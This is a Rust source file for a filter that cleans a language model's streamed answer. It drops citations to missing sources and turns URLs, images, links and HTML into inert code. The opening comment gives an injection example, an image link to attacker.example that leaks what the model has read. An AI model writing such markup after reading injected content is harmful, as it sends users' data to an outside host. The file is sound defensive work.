//! Filter of a model's text: drops citations of sources that do not exist, and removes everything that a Markdown renderer would load
//! from another host or interpret as HTML.
//!
//! A document can make a model write `![](https://attacker.example/?what=it-has-read)`, and a page that shows it would leak data. So
//! no link, image or tag remains outside code: URLs become code, which every renderer shows verbatim. The filter works on the stream:
//! it holds back a few characters, a code span until it is closed, and nothing within a fenced code block.
//!
//! Where [CommonMark](https://spec.commonmark.org/0.31.2/) and this filter could disagree, the filter treats the text as prose, or
//! writes something unambiguous: a code block that ends because its list does gets a closing fence. At worst a character too many is
//! escaped.

use std::collections::BTreeSet;

/// Maximum length of a code span, in bytes; a longer one is treated as prose.
const MAX_SPAN_BYTES: usize = 2000;
/// Maximum length of the text between the brackets of a citation, in bytes.
const MAX_CITATION_BYTES: usize = 48;

/// Filter of a text that arrives in pieces.
#[derive(Debug)]
pub struct Filter {
    /// Number of sources.
    sources: i32,
    /// Text received and not decided yet.
    held: String,
    fence: Option<Fence>,
    /// Whether the next character is the first of a line.
    at_line_start: bool,
    /// Last character written.
    last: Option<char>,
    cited: BTreeSet<i32>,
    dropped: usize,
}

/// Open code block.
#[derive(Debug, Clone, Copy)]
struct Fence {
    mark: char,
    length: usize,
    indent: usize,
}

impl Filter {
    /// Creates a filter for an answer with this number of sources.
    pub fn new(sources: usize) -> Self {
        Self {
            sources: i32::try_from(sources).unwrap_or(i32::MAX),
            held: String::new(),
            fence: None,
            at_line_start: true,
            last: None,
            cited: BTreeSet::new(),
            dropped: 0,
        }
    }

    /// Filters a piece, and returns the text that is decided.
    pub fn push(&mut self, piece: &str) -> String {
        // U+0000 cannot be stored, and a carriage return would end lines that the filter does not see.
        self.held.extend(piece.chars().filter(|character| !['\0', '\r'].contains(character)));
        self.decide(false)
    }

    /// Returns the rest of the text at the end.
    pub fn finish(&mut self) -> String {
        self.decide(true)
    }

    /// Returns the numbers cited so far, in ascending order.
    pub fn cited(&self) -> Vec<i32> {
        self.cited.iter().copied().collect()
    }

    /// Returns the number of citations dropped because there is no such source.
    pub fn dropped(&self) -> usize {
        self.dropped
    }

    fn decide(&mut self, is_end: bool) -> String {
        let held = std::mem::take(&mut self.held);
        let mut out = String::with_capacity(held.len());
        let mut rest = held.as_str();
        while !rest.is_empty() {
            let Some(used) = self.step(rest, is_end, &mut out) else { break };
            rest = rest.get(used..).unwrap_or_default();
        }
        rest.clone_into(&mut self.held);
        out
    }

    /// Decides on the start of the held text, and returns its length in bytes; `None` if more text is needed.
    fn step(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        if self.at_line_start {
            return self.line(rest, is_end, out);
        }
        if self.fence.is_some() {
            return Some(self.in_fence(rest, out));
        }
        self.prose(rest, is_end, out)
    }

    /// Copies text within a code block, up to the end of the line.
    fn in_fence(&mut self, rest: &str, out: &mut String) -> usize {
        let end = rest.find('\n').map_or(rest.len(), |end| end + 1);
        self.write(&rest[..end], out);
        end
    }

    /// Handles the start of a line, where a code block may start or end.
    fn line(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let indent = rest.bytes().take_while(|byte| *byte == b' ').count();
        let inner = &rest[indent..];
        let Some(first) = inner.chars().next() else {
            if !is_end {
                return None;
            }
            self.at_line_start = false;
            self.write(rest, out);
            return Some(rest.len());
        };
        if let Some(fence) = self.fence {
            let edge = " ".repeat(fence.indent);
            // Renderers also accept a closing fence after tabs.
            let tabs = inner.bytes().take_while(|byte| [b' ', b'\t'].contains(byte)).count();
            if inner.len() == tabs && !is_end {
                return None;
            }
            let (indent, inner) = if inner[tabs..].starts_with(fence.mark) {
                (indent + tabs, &inner[tabs..])
            } else {
                (indent, inner)
            };
            let first = inner.chars().next().unwrap_or(first);
            if first != '\n' && indent < fence.indent {
                // If the block was part of a list, the list and the block end here. A closing fence ends it in either case.
                self.fence = None;
                let marks: String = std::iter::repeat_n(fence.mark, fence.length).collect();
                self.write(&format!("{edge}{marks}\n"), out);
            } else if first == fence.mark {
                let end = match inner.find('\n') {
                    Some(end) => end,
                    None if is_end => inner.len(),
                    None => return None,
                };
                let line = inner[..end].trim_end();
                self.at_line_start = false;
                if line.len() >= fence.length && line.chars().all(|character| character == fence.mark) {
                    self.fence = None;
                    self.write(&format!("{edge}{line}"), out);
                } else {
                    self.write(&rest[..indent + end], out);
                }
                return Some(indent + end);
            } else {
                return Some(self.in_fence(rest, out));
            }
        }
        if indent <= 3 && (first == '`' || first == '~') {
            let end = match inner.find('\n') {
                Some(end) => end,
                None if is_end => inner.len(),
                None if inner.len() < 200 => return None,
                None => 0,
            };
            let length = inner.chars().take_while(|character| *character == first).count();
            let info = &inner[length.min(end)..end];
            if end > 0 && length >= 3 && !(first == '`' && info.contains('`')) {
                self.fence = Some(Fence { mark: first, length, indent });
                self.at_line_start = false;
                // Only the language; no renderer shows the rest of the info string.
                let name: String = info
                    .trim()
                    .chars()
                    .take_while(|sign| sign.is_alphanumeric() || "+-_#.".contains(*sign))
                    .collect();
                let name = if is_rendered(&name) { "text" } else { name.as_str() };
                let marks: String = std::iter::repeat_n(first, length).collect();
                self.write(&format!("{}{marks}{name}", &rest[..indent]), out);
                return Some(indent + end);
            }
        }
        self.at_line_start = false;
        if indent > 0 {
            self.write(&rest[..indent], out);
            return Some(indent);
        }
        self.prose(rest, is_end, out)
    }

    /// Handles prose: one character, or one construct.
    fn prose(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let mut characters = rest.chars();
        let first = characters.next()?;
        let second = characters.next();
        match first {
            '`' => self.span(rest, is_end, out),
            // Three tildes open a code block, also within lists and quotations, which the filter does not parse.
            '~' => {
                let run = rest.bytes().take_while(|byte| *byte == b'~').count();
                if run == rest.len() && !is_end {
                    return None;
                }
                self.write(&if run < 3 { "~" } else { "\\~" }.repeat(run), out);
                Some(run)
            }
            '[' => self.bracket(rest, is_end, out),
            '【' => self.wide_bracket(rest, is_end, out),
            // `](` and `]:` form links, `![` an image.
            ']' | '!' => {
                let next = match second {
                    Some(next) => next,
                    None if is_end => '\n',
                    None => return None,
                };
                if first == '!' && next == '[' {
                    // Drops the `!`; the bracket follows.
                    return Some(1);
                }
                let forms_link = first == ']' && matches!(next, '(' | ':' | '[');
                self.write(if forms_link { "] " } else { &rest[..1] }, out);
                Some(1)
            }
            '<' => {
                let next = match second {
                    Some(next) => next,
                    None if is_end => ' ',
                    None => return None,
                };
                let is_comparison = next.is_whitespace() || next.is_ascii_digit() || next == '=';
                self.write(if is_comparison { "<" } else { "\\<" }, out);
                Some(1)
            }
            // An escape could open a construct that the filter considers closed.
            '\\' => {
                let next = match second {
                    Some(next) => next,
                    None if is_end => ' ',
                    None => return None,
                };
                if next.is_ascii_punctuation() {
                    // Rendered as a plain backslash.
                    self.write("\\\\", out);
                } else {
                    self.write("\\", out);
                }
                Some(1)
            }
            '\n' => {
                self.write("\n", out);
                self.at_line_start = true;
                Some(1)
            }
            _ if starts_url(self.last, rest) => self.url(rest, is_end, out),
            _ if !is_end && may_start_url(self.last, rest) => None,
            _ => {
                self.write(&rest[..first.len_utf8()], out);
                Some(first.len_utf8())
            }
        }
    }

    /// Handles a code span: copied once it is closed.
    fn span(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let run = rest.bytes().take_while(|byte| *byte == b'`').count();
        if run == rest.len() && !is_end {
            return None;
        }
        let inner = &rest[run..];
        // The end of a paragraph ends every open span.
        let limit = inner.find('\n').unwrap_or(inner.len());
        let mut at = 0;
        let mut may_close = limit == inner.len() && !is_end && inner.len() < MAX_SPAN_BYTES;
        while let Some(offset) = inner[at..limit].find('`') {
            let start = at + offset;
            let length = inner[start..limit].bytes().take_while(|byte| *byte == b'`').count();
            let could_grow = start + length == inner.len() && !is_end;
            if could_grow {
                return None;
            }
            if length == run {
                let code = &inner[..start];
                // In a table a bar ends the cell, and with it the code span.
                if code.contains('|') && ["[", "<", "//", "www."].iter().any(|sign| code.contains(sign)) {
                    may_close = false;
                    break;
                }
                self.separate(out);
                let end = run + start + length;
                self.write(&rest[..end], out);
                return Some(end);
            }
            at = start + length;
        }
        if may_close {
            return None;
        }
        // Never closed: plain backticks.
        self.write(&"\\`".repeat(run), out);
        Some(run)
    }

    /// Handles citations, or a plain bracket.
    fn bracket(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let inside = &rest[1..];
        let Some(end) = inside.find(|sign: char| !(sign.is_ascii_digit() || [',', ' ', '^'].contains(&sign)))
        else {
            if !is_end && inside.len() < MAX_CITATION_BYTES {
                return None;
            }
            self.write("[", out);
            return Some(1);
        };
        let numbers = &inside[..end];
        if !inside[end..].starts_with(']')
            || !numbers.bytes().any(|byte| byte.is_ascii_digit())
            || end > MAX_CITATION_BYTES
        {
            self.write("[", out);
            return Some(1);
        }
        let after = inside[end + 1..].chars().next();
        if after.is_none() && !is_end {
            return None;
        }
        self.cite(numbers, after, out);
        Some(end + 2)
    }

    /// Handles citations in the forms 【1】 and 【1†source】, which some models write.
    fn wide_bracket(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let open = '【'.len_utf8();
        let inside = &rest[open..];
        let Some(end) = inside.find('】') else {
            if !is_end && inside.len() < MAX_CITATION_BYTES && !inside.contains('\n') {
                return None;
            }
            self.write("【", out);
            return Some(open);
        };
        let numbers = inside[..end].split('†').next().unwrap_or_default();
        let is_citation = !numbers.is_empty()
            && numbers.chars().all(|sign| sign.is_ascii_digit() || [',', ' '].contains(&sign))
            && numbers.bytes().any(|byte| byte.is_ascii_digit());
        if !is_citation {
            self.write("【", out);
            return Some(open);
        }
        let after = inside[end + '】'.len_utf8()..].chars().next();
        if after.is_none() && !is_end {
            return None;
        }
        self.cite(numbers, after, out);
        Some(open + end + '】'.len_utf8())
    }

    /// Writes the numbers of existing sources, each in its own brackets, and keeps the text before and after apart.
    fn cite(&mut self, numbers: &str, after: Option<char>, out: &mut String) {
        let before = out.len();
        for number in numbers.split([',', ' ', '^']).filter(|number| !number.is_empty()) {
            match number.parse::<i32>() {
                Ok(number) if (1..=self.sources).contains(&number) => {
                    self.cited.insert(number);
                    // Two in a row must not form a reference link.
                    let separator = if self.last == Some(']') { " " } else { "" };
                    self.write(&format!("{separator}[{number}]"), out);
                }
                _ => self.dropped += 1,
            }
        }
        let is_gone = out.len() == before && !self.last.is_none_or(char::is_whitespace);
        let joins =
            after.is_some_and(|after| !(after.is_whitespace() || ".,;?)。，；、？）".contains(after)));
        if matches!(after, Some('(' | ':')) || (is_gone && joins) {
            self.write(" ", out);
        }
    }

    /// Handles a URL: written as code.
    fn url(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
        let ends = |sign: char| {
            sign.is_whitespace() || sign.is_control() || "`<>\"'()[]{}|\\^".contains(sign) || !sign.is_ascii()
        };
        let end = match rest.find(ends) {
            Some(end) => end,
            None if !is_end && rest.len() < 4000 => return None,
            None => rest.len(),
        };
        let url = rest[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~']);
        let url = if url.is_empty() { &rest[..end] } else { url };
        self.separate(out);
        self.write(&format!("`{url}`"), out);
        Some(url.len())
    }

    /// Writes a space if two code spans would merge.
    fn separate(&mut self, out: &mut String) {
        if matches!(self.last, Some('`' | '\\')) {
            self.write(" ", out);
        }
    }

    fn write(&mut self, text: &str, out: &mut String) {
        out.push_str(text);
        if let Some(last) = text.chars().last() {
            self.last = Some(last);
            self.at_line_start = last == '\n';
        }
    }
}

/// Prefixes that Markdown renderers turn into links automatically.
const URL_PREFIXES: [&str; 5] = ["http://", "https://", "ftp://", "www.", "//"];

fn is_at_word_start(last: Option<char>) -> bool {
    last.is_none_or(|last| !last.is_alphanumeric())
}

fn starts_url(last: Option<char>, rest: &str) -> bool {
    is_at_word_start(last)
        && URL_PREFIXES.iter().any(|prefix| {
            rest.as_bytes()
                .get(..prefix.len())
                .is_some_and(|bytes| bytes.eq_ignore_ascii_case(prefix.as_bytes()))
        })
}

/// Whether the text may become the start of a URL.
fn may_start_url(last: Option<char>, rest: &str) -> bool {
    is_at_word_start(last)
        && URL_PREFIXES.iter().any(|prefix| {
            rest.len() < prefix.len() && prefix.as_bytes()[..rest.len()].eq_ignore_ascii_case(rest.as_bytes())
        })
}

/// Whether some chat clients execute or render code blocks of this language, which may then load external content.
fn is_rendered(language: &str) -> bool {
    const RENDERED: [&str; 14] = [
        "mermaid",
        "vega",
        "vega-lite",
        "html",
        "xhtml",
        "svg",
        "geojson",
        "topojson",
        "stl",
        "math",
        "latex",
        "dot",
        "graphviz",
        "plantuml",
    ];
    RENDERED.iter().any(|rendered| language.eq_ignore_ascii_case(rendered))
}

#[cfg(test)]
mod tests;
